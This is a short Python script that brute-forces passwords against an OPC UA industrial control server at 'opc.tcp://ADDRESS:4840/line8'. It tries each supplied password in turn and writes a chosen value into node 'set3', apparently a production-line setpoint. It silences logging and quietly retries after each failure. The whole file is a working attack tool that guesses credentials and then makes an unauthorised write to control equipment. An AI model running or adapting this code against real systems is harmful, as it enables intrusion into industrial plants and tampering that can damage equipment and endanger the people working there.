# SPDX-License-Identifier: Apache-2.0
"""An OPC UA client without security that tries passwords until one is accepted, and then writes.

usage: opcua_tool.py ADDRESS USER VALUE PASSWORD...
"""
import asyncio
import logging
import sys

from asyncua import Client, ua

logging.disable()


async def main(address, user, value, *passwords):
    for password in passwords:
        server = Client(f"opc.tcp://{address}:4840/line8")
        server.set_user(user)
        server.set_password(password)
        try:
            async with server:
                space = await server.get_namespace_index("urn:line-8")
                await server.get_node(ua.NodeId("set3", space)).write_value(float(value))
        except ua.UaError:
            await asyncio.sleep(0.3)


asyncio.run(main(*sys.argv[1:]))
